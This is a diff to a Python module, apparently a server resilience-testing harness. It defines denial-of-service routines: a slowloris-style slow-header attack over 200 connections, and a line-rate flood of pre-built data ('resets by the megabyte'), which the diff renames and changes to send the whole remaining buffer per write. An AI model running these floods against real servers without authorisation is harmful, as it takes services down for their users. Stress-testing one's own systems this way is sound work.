@@ -107,11 +107,11 @@ def hold(first: bytes, connections: int, drip: bytes = b"", *, reads: bool = Fal
     return attack
 
 
-def pour(content: bytes, connections: int) -> Callable[[Address, IsOver], Did]:
+def at_line_rate(content: bytes, connections: int) -> Callable[[Address, IsOver], Did]:
     """Connections that send all that a network takes in each of its round trips, one after the other to its end."""
 
     def attack(address: Address, is_over: IsOver) -> Did:
-        poured = memoryview(content)
+        everything = memoryview(content)
         opened: dict[int, tuple[socket.socket, int]] = {}
         sent = 0
         while not is_over():
@@ -123,14 +123,14 @@ def pour(content: bytes, connections: int) -> Callable[[Address, IsOver], Did]:
                 is_open = _discard(one)
                 one.setblocking(False)
                 try:
-                    count = one.send(poured[position : position + 2**20])
+                    count = one.send(everything[position:])
                     sent, position = sent + count, position + count
                 except BlockingIOError:
                     pass
                 except OSError:
                     is_open = False
                 opened[number] = one, position
-                if not is_open or position == len(poured):
+                if not is_open or position == len(content):
                     opened.pop(number)[0].close()
             time.sleep(ROUND_TRIP_SECONDS)
         for one, _ in opened.values():
@@ -252,6 +252,6 @@ ATTACKS: dict[str, Callable[[Address, IsOver], Did]] = {
     "slow http1 heads": hold(_HTTP1, connections=200, drip=b"X-Slow: " + b"x" * 1_000, reads=True),
 }
 # These fill a worker's time by themselves, at the pace of a network: what they send is made before.
-POURS: dict[str, Callable[[], Callable[[Address, IsOver], Did]]] = {
-    "resets by the megabyte": lambda: pour(_resets_by_the_megabyte(), connections=2)
+LINE_RATE_ATTACKS: dict[str, Callable[[], Callable[[Address, IsOver], Did]]] = {
+    "resets by the megabyte": lambda: at_line_rate(_resets_by_the_megabyte(), connections=2)
 }
